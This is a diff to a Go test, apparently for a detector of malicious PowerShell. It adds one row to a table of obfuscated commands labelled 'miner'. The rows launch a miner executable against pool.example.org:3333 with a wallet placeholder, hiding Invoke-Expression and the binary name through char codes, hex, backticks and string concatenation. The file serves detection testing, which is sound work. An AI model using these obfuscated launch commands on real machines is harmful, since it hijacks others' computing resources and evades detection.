@@ -102,6 +102,7 @@ func TestPowerShellValues(t *testing.T) {
 		{"char array", `iex (-join [char[]](115,118,99,46,101,120,101) + ' -o pool.example.org:3333 -u WALLET -k')`, miner},
 		{"char pipe", `iex (((115,118,99) | % { [char]$_ }) -join '') ; iex ('svc' + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
 		{"split pipe", `$x = '115,118,99'.Split(',') | ForEach-Object { [char][int]$_ }; iex (($x -join '') + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
+		{"no blank", `$x = '115,118,99'.Split(',')|%{[char][int]$_}; iex (($x -join '') + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
 		{"hex split", `$x = -join ('73-76-63' -split '-' | % { [char][convert]::ToInt32($_, 16) }); & "$x.exe" -o pool.example.org:3333 -u WALLET -k`, miner},
 		{"ticks", "iN`V`o`K`e`-EX`pressi`on ('svc.exe -o pool.example.org:3333' + ' -u WALLET -k')", miner},
 		{"call of text", `&('i'+'ex') 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
